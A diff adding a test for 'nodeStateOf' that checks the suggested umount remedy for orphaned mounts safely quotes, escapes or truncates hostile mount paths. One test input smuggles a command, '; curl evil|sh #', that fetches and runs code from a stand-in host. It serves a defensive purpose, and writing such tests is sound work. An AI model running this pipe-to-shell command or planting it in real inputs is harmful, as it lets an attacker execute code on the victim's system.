@@ -133,6 +133,20 @@ describe("nodeStateOf", () => {
     expect(orphan?.source).to.contain("/state/data/key of it");
   });
 
+  it("gives no command of somebody else's making, and no path that the schema refuses", () => {
+    const root = entry({ id: 1, parent: 1, point: "/", device: "8:1", fsType: "ext4", source: "/dev/sda1" });
+    const orphanOn = (point: string) => {
+      const mount = entry({ id: 41, point, device: "8:1", root: "/state/data/key", fsType: "ext4" });
+      return (seen({ mounts: [root, mount] }).orphans ?? [])[0];
+    };
+    expect(orphanOn(`${prefix}/x; curl evil|sh #`)?.remedy).to.equal(`umount '${prefix}/x; curl evil|sh #'`);
+    const byID = "unmount it by the mountID, which /proc/self/mountinfo has";
+    expect(orphanOn(`${prefix}/x\nREADY`)).to.include({ path: `${prefix}/x\\x0aREADY`, remedy: byID });
+    const long = orphanOn(`${prefix}/${"a".repeat(1200)}`);
+    expect(long?.path).to.have.lengthOf(1024);
+    expect(long?.remedy).to.equal(byID);
+  });
+
   it("calls nothing an orphan before the intents were read", () => {
     expect(seen({ records: [record()], mounts: [staged, mounted] }, { synced: false }).orphans).to.deep.equal([]);
   });
